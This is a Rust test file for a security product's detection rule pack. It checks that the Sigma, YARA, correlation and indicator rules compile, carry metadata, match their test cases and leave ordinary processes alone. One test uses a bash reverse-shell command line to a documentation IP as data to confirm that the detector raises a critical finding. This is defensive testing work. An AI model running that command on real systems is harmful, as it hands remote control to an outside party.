//! The default pack: every rule with what it has to catch and what it has to leave alone.

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::path::{Path, PathBuf};

use chrono::{DateTime, Duration, Utc};
use serde::Deserialize;
use sg_detect::correlation::{Correlator, Counted, Sighting};
use sg_detect::{Event, FileFacts, LogSource, RuleInfo, RuleSource, compile, default_pack, sha256};
use sg_types::RuleKind;
use sg_types::agent::{ProcessSubject, Subject};

use crate::support::pack;

/// The cases of one rule file.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Cases<T> {
    r#match: Vec<T>,
    no_match: Vec<T>,
}

/// A file's content and, where it has to match, the title of the rule.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Content {
    rule: Option<String>,
    parts: Vec<String>,
}

const OWN_AUDIT: LogSource<'static> = LogSource {
    product: Some("secureguard"),
    category: None,
    service: Some("audit"),
};
const OWN_AUTHENTICATION: LogSource<'static> = LogSource {
    product: Some("secureguard"),
    category: None,
    service: Some("authentication"),
};

type Values = BTreeMap<String, String>;

#[test]
fn the_pack_compiles_without_a_word() {
    let (rules, diagnostics) = compile(&default_pack());
    assert_eq!(diagnostics, []);
    let count = |kind| rules.rules().iter().filter(|rule| rule.kind == kind).count();
    assert!(count(RuleKind::Sigma) >= 60 && count(RuleKind::Yara) >= 15 && !rules.indicators().is_empty());
    let tags = rules.rules().iter().flat_map(|rule| &rule.tags);
    let tactics: BTreeSet<&str> = tags
        .filter_map(|tag| tag.strip_prefix("attack."))
        .filter(|name| {
            !name.starts_with(|c: char| c == 't' && name[1..].starts_with(|d: char| d.is_ascii_digit()))
        })
        .collect();
    assert!(tactics.len() >= 9, "{tactics:?}");
}

#[test]
fn the_pack_is_the_folder() {
    let mut on_disk: Vec<String> = Vec::new();
    for folder in ["sigma", "correlations", "yara", "indicators"] {
        for entry in std::fs::read_dir(rules_folder().join(folder)).unwrap() {
            on_disk.push(format!(
                "{folder}/{}",
                entry.unwrap().file_name().into_string().unwrap()
            ));
        }
    }
    on_disk.sort();
    let mut embedded: Vec<_> = default_pack().into_iter().map(|source| source.name).collect();
    embedded.sort();
    assert_eq!(on_disk, embedded);
}

#[test]
fn every_rule_says_what_people_need() {
    let correlations = pack().correlations().iter().map(|correlation| &correlation.info);
    for rule in pack().rules().iter().chain(correlations) {
        let name = &rule.source;
        let dashes: Vec<_> = rule.id.match_indices('-').map(|(at, _)| at).collect();
        assert_eq!(
            (rule.id.len(), dashes),
            (36, vec![8, 13, 18, 23]),
            "{name}: the id is no UUID"
        );
        assert!(
            rule.description.len() > 40,
            "{name}: the description is too short"
        );
        assert!(!rule.threat_type.contains(' '), "{name}: {}", rule.threat_type);
        if rule.kind == RuleKind::Sigma {
            assert!(!rule.techniques.is_empty(), "{name} names no technique");
            assert!(
                !rule.false_positives.is_empty(),
                "{name} names no false positives"
            );
        }
    }
}

#[test]
fn sigma_rules_match_their_cases() {
    for source in in_folder("sigma/") {
        let rule = rule_of(&source.name);
        let cases: Cases<Values> = read_cases(&source.name);
        assert!(
            cases.r#match.iter().len() + cases.no_match.len() >= 4,
            "{}: too few cases",
            source.name
        );
        let log_source = if source.text.contains("category: file_event") {
            LogSource::LINUX_FILE_EVENT
        } else if source.text.contains("product: secureguard") {
            OWN_AUDIT
        } else {
            LogSource::LINUX_PROCESS_CREATION
        };
        for (values, expected) in both(&cases) {
            let event = to_event(log_source, values);
            let found = pack().evaluate(&event);
            assert_eq!(found, pack().evaluate_full_scan(&event), "{values:?}");
            let found = found.iter().find(|found| found.rule.id == rule.id);
            let explained = pack().explain(&rule.id, &event);
            assert_eq!(
                found.is_some(),
                expected,
                "{}: {values:?}\n{explained:#?}",
                source.name
            );
            assert!(
                found.is_none_or(|found| !found.evidence.is_empty()),
                "{}: no evidence on {values:?}",
                source.name
            );
        }
    }
}

/// Some events of a correlation's case.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Events {
    /// The category of the log source, or the service of the product's own.
    kind: String,
    /// Seconds after the case's begin.
    #[serde(default)]
    after: i64,
    /// How many; `{n}` in a value is the number.
    #[serde(default = "once")]
    times: usize,
    /// One event for each program, in the place of `times`.
    #[serde(default)]
    programs: Vec<String>,
    values: Values,
}

fn once() -> usize {
    1
}

#[test]
fn correlations_hold_in_their_cases() {
    let (correlator, diagnostics) = Correlator::compile(&default_pack(), &[], &HashSet::new()).unwrap();
    assert_eq!(diagnostics, []);
    for source in in_folder("correlations/") {
        let correlation = correlator
            .correlations()
            .iter()
            .find(|correlation| correlation.info.source == source.name)
            .unwrap();
        let cases: Cases<Vec<Events>> = read_cases(&source.name);
        assert!(
            !cases.r#match.is_empty() && cases.no_match.len() >= 3,
            "{}",
            source.name
        );
        for (case, expected) in both(&cases) {
            let mut groups = Groups::new();
            for (at, event) in case.iter().flat_map(expand) {
                let sightings = correlator.sight(&to_recorded(&event.0, &event.1));
                count(
                    &mut groups,
                    sightings,
                    DateTime::UNIX_EPOCH + Duration::milliseconds(at),
                );
            }
            count_episodes(&mut groups, &correlator);
            let held = groups.iter().any(|((id, _), counted)| {
                *id == correlation.info.id && !correlation.find_episodes(counted, later()).is_empty()
            });
            assert_eq!(held, expected, "{}: {case:?}", source.name);
        }
    }
}

/// What counts, by correlation and group.
type Groups = BTreeMap<(String, Vec<String>), Vec<Counted>>;

fn later() -> DateTime<Utc> {
    DateTime::UNIX_EPOCH + Duration::days(365)
}

fn count(groups: &mut Groups, sightings: Vec<Sighting>, at: DateTime<Utc>) {
    for sighting in sightings {
        let key = (sighting.correlation.info.id.clone(), sighting.group);
        groups.entry(key).or_default().push(Counted {
            position: sighting.position,
            at,
            value: sighting.value,
        });
    }
}

/// Episodes count for correlations of correlations.
fn count_episodes(groups: &mut Groups, correlator: &Correlator) {
    for ((id, group), counted) in groups.clone() {
        let inner = correlator.find(&id).unwrap();
        for episode in inner.find_episodes(&counted, later()) {
            count(
                groups,
                correlator.sight_episode(inner, &group),
                counted[episode.held_at].at,
            );
        }
    }
    for counted in groups.values_mut() {
        counted.sort_by_key(|one| (one.at, one.position));
    }
}

/// The events with their milliseconds.
fn expand(events: &Events) -> Vec<(i64, (String, Values))> {
    let number = events.programs.len().max(events.times);
    let one = |n: usize| {
        let mut values = events.values.clone();
        values
            .values_mut()
            .for_each(|value| *value = value.replace("{n}", &n.to_string()));
        if let Some(program) = events.programs.get(n) {
            values.insert("Image".to_owned(), format!("/usr/bin/{program}"));
            values.insert("ProcessName".to_owned(), program.clone());
        }
        values.insert("ComputerName".to_owned(), "web-1".to_owned());
        let at = events.after * 1_000 + i64::try_from(n).unwrap();
        (at, (events.kind.clone(), values))
    };
    (0..number).map(one).collect()
}

fn to_recorded<'a>(kind: &str, values: &'a Values) -> Event<'a> {
    let log_source = match kind {
        "file_event" => LogSource::LINUX_FILE_EVENT,
        "authentication" => OWN_AUTHENTICATION,
        _ => LogSource::LINUX_PROCESS_CREATION,
    };
    to_event(log_source, values)
}

#[test]
fn yara_rules_match_their_cases() {
    for source in of_kind(RuleKind::Yara) {
        let cases: Cases<Content> = read_cases(&source.name);
        let titles: Vec<_> = pack()
            .rules()
            .iter()
            .filter(|rule| rule.source == source.name)
            .map(|rule| &rule.title)
            .collect();
        for title in &titles {
            assert!(
                cases.r#match.iter().any(|case| case.rule.as_ref() == Some(title)),
                "{title} has no case"
            );
        }
        assert!(!cases.no_match.is_empty());
        for (case, expected) in both(&cases) {
            let report = pack().scan(case.parts.concat().as_bytes(), "case");
            assert_eq!(report.diagnostics, []);
            let found: Vec<_> = report.matches.iter().map(|found| &found.rule.title).collect();
            let wanted: Vec<_> = case.rule.iter().filter(|_| expected).collect();
            assert_eq!(found, wanted, "{}: {:?}", source.name, case.parts);
        }
    }
}

#[test]
fn indicators_match_their_cases() {
    for source in of_kind(RuleKind::Indicator) {
        let cases: Cases<Content> = read_cases(&source.name);
        for (case, expected) in both(&cases) {
            let sha256 = Some(sha256(case.parts.concat().as_bytes()));
            let facts = FileFacts {
                path: "/srv/file",
                sha256,
                ..FileFacts::default()
            };
            let found = pack().check_file(&facts, DateTime::UNIX_EPOCH);
            assert_eq!(!found.is_empty(), expected, "{}: {:?}", source.name, case.parts);
        }
    }
}

/// What the agent sends and the server stores for the reverse shell that everybody tries first.
#[test]
fn a_match_becomes_a_finding() {
    let process = ProcessSubject {
        key: "boot:42:7".to_owned(),
        ancestors: Vec::new(),
        pid: 42,
        name: "bash".to_owned(),
        image: Some("/usr/bin/bash".to_owned()),
        command_line: "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1".to_owned(),
        current_directory: None,
        sha256: Some("AB".repeat(32)),
        user: Some("anna".to_owned()),
        parent_image: None,
        parent_command_line: None,
    };
    let found = pack().evaluate(&Event::process(&process));
    let id = "01900000-0000-7000-8000-000000000001".parse().unwrap();
    let finding = found[0].clone().into_finding(id, Subject::Process(process));
    assert_eq!((finding.confidence, finding.severity.as_str()), (0.9, "critical"));
    assert_eq!(
        (finding.engine.as_str(), finding.threat_type.as_str()),
        ("sigma", "reverse_shell")
    );
    assert!(finding.tags.contains(&"attack.t1059.004".to_owned()));
    assert!(
        finding
            .explanation
            .starts_with("CommandLine contains '/dev/tcp/', and"),
        "{}",
        finding.explanation
    );
    assert_eq!(
        finding.evidence[0]["value"],
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"
    );
}

#[test]
fn ordinary_processes_are_left_alone() {
    let text = std::fs::read_to_string(rules_folder().join("cases/ordinary_processes.yml")).unwrap();
    let processes: Vec<Values> = serde_norway::from_str(&text).unwrap();
    assert!(processes.len() >= 40);
    for values in &processes {
        let found = pack().evaluate(&to_event(LogSource::LINUX_PROCESS_CREATION, values));
        let titles: Vec<_> = found.iter().map(|found| &found.rule.title).collect();
        assert!(titles.is_empty(), "{values:?} is taken for {titles:?}");
    }
}

/// Scanners of other products, and this one, must not stumble over the repository's own files.
#[test]
fn no_file_of_the_pack_is_itself_a_finding() {
    for folder in [
        "sigma",
        "yara",
        "indicators",
        "cases",
        "cases/sigma",
        "cases/yara",
        "cases/indicators",
    ] {
        for entry in std::fs::read_dir(rules_folder().join(folder)).unwrap() {
            let path = entry.unwrap().path();
            if path.is_file() {
                let content = std::fs::read(&path).unwrap();
                assert_eq!(pack().scan(&content, "f").matches, [], "{}", path.display());
            }
        }
    }
}

fn rules_folder() -> PathBuf {
    PathBuf::from("../../rules")
}

fn of_kind(kind: RuleKind) -> impl Iterator<Item = RuleSource> {
    default_pack()
        .into_iter()
        .filter(move |source| source.kind == kind)
}

fn in_folder(folder: &'static str) -> impl Iterator<Item = RuleSource> {
    of_kind(RuleKind::Sigma).filter(move |source| source.name.starts_with(folder))
}

fn rule_of(source: &str) -> &'static RuleInfo {
    pack().rules().iter().find(|rule| rule.source == source).unwrap()
}

fn read_cases<T: for<'de> Deserialize<'de>>(source: &str) -> Cases<T> {
    let path = rules_folder()
        .join("cases")
        .join(Path::new(source).with_extension("yml"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    serde_norway::from_str(&text).unwrap_or_else(|error| panic!("{}: {error}", path.display()))
}

fn both<T>(cases: &Cases<T>) -> impl Iterator<Item = (&T, bool)> {
    let positive = cases.r#match.iter().map(|case| (case, true));
    positive.chain(cases.no_match.iter().map(|case| (case, false)))
}

fn to_event<'a>(log_source: LogSource<'static>, values: &'a Values) -> Event<'a> {
    let mut event = Event::new(log_source);
    for (name, value) in values {
        event.set_named(name.as_str(), value.as_str());
    }
    event
}
